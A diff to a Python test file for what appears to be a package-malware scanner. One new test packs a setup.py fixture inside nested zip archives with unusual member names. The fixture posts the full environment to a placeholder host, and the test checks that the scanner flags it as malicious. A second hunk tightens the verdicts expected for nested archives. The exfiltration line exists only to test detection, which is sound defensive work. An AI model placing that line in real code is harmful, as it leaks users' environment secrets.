@@ -111,6 +111,17 @@ def test_sarif_and_explain(tmp_path):
     assert "malicious" in text and "pkg.pth:1" in text and "\x1b" not in text
 
 
+def test_the_names_of_a_parcel_are_its_makers(tmp_path):
+    """What separates the paths of nested archives may stand in their names: members keep their places."""
+    setup = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
+    seen = []
+    for name in ("b.zip", "a!b.zip", "!", "a!b!c.zip"):
+        (tmp_path / "parcel.zip").write_bytes(zip_bytes([(name, zip_bytes([("setup.py", setup)]))]))
+        _, [found] = answers(tmp_path / "parcel.zip")
+        seen.append((found["verdict"], sorted({f["location"]["member"] for f in found["findings"] if f["location"]})))
+    assert seen == [("malicious", ["setup.py"])] * 4, seen
+
+
 class Told(pickle.Unpickler):
     """Notes what Python's own machine would import; imports nothing."""
 
@@ -179,9 +190,8 @@ def test_any_readable_archive_is_judged(tmp_path):
     for name, data in packed.items():
         (tmp_path / name).write_bytes(data)
         code, [found] = answers(tmp_path / name)
-        nested = name.startswith("outer")
-        assert code == (0 if nested and found["verdict"] in ("clear", "review") else 1), (name, found)
-        assert nested or any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
+        assert code == 1 and found["verdict"] == "malicious", (name, found)
+        assert any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
     (tmp_path / "nothing").write_bytes(b"this is no archive")
     code, [found] = answers(tmp_path / "nothing")
     assert code == 1 and found["verdict"] == "hold"
